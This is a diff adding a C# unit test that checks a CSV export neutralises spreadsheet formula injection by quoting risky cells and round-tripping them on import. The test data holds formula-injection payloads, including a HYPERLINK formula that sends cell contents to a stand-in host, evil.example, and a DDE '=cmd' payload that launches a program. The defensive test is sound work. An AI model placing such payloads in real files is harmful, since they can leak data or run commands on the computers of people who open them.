@@ -71,6 +71,38 @@ public class ExportTests
         Assert.Equal(3, (await h.ContactsAsync()).Count);
     }
 
+    [Theory]
+    [InlineData("=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")")]
+    [InlineData("+1+1")]
+    [InlineData("-2+3")]
+    [InlineData("@SUM(A1)")]
+    [InlineData("\tcmd")]
+    public async Task A_text_cell_that_a_spreadsheet_would_run_as_a_formula_is_exported_behind_a_quote_and_imports_back_as_it_was(string customer)
+    {
+        await using var h = await LedgerHarness.CreateAsync(DatabaseProvider.Sqlite);
+        var t = new DateTimeOffset(2026, 3, 2, 10, 0, 0, TimeSpan.Zero);
+        await SaveAsync(h, Closed(Escalated, customer, t, category: "=cmd|' /C calc'!A0", reason: "policy", handleMinutes: 3));
+        var list = new StringWriter();
+        await CsvExport.WriteContactsAsync(h.Services.GetRequiredService<ContactList>().ReadAsync(From, To, default), list, default);
+        var report = new StringWriter();
+        await CsvExport.WriteReportAsync(await h.Services.GetRequiredService<CostReportService>().ReportAsync(From, To, TestModels.Standard(), default), report);
+
+        var rows = await SelfServiceBot.Costs.Import.CsvReader.ReadAsync(new StringReader(list.ToString())).ToListAsync();
+        Assert.Equal("'" + customer, rows[1].Fields[1]);
+        Assert.Equal("'=cmd|' /C calc'!A0", rows[1].Fields[7]);
+        Assert.Contains("\n'=cmd|' /C calc'!A0,1,", report.ToString().Replace("\r\n", "\n"));
+        // Every cell of both files, unquoted: none starts a formula.
+        var cells = rows.Concat(await SelfServiceBot.Costs.Import.CsvReader.ReadAsync(new StringReader(report.ToString())).ToListAsync())
+            .SelectMany(r => r.Fields);
+        Assert.DoesNotContain(cells, c => c.Length > 0 && c[0] is '=' or '+' or '@' or '\t' or '\r' || (c.StartsWith('-') && !decimal.TryParse(c, System.Globalization.NumberStyles.Number, System.Globalization.CultureInfo.InvariantCulture, out _)));
+
+        var again = await h.Services.GetRequiredService<SelfServiceBot.Costs.Import.ContactImporter>().ImportAsync(new StringReader(list.ToString()), default);
+        Assert.Equal((0, 1, 0), (again.Inserted, again.Updated, again.Errors.Count));
+        var contact = Assert.Single(await h.ContactsAsync());
+        Assert.Equal(customer.Trim(), contact.CustomerId);
+        Assert.Equal("=cmd|' /C calc'!A0", contact.Category);
+    }
+
     [Fact]
     public async Task Across_model_versions_both_files_hold_the_json_figures_the_versions_csat_and_budget()
     {
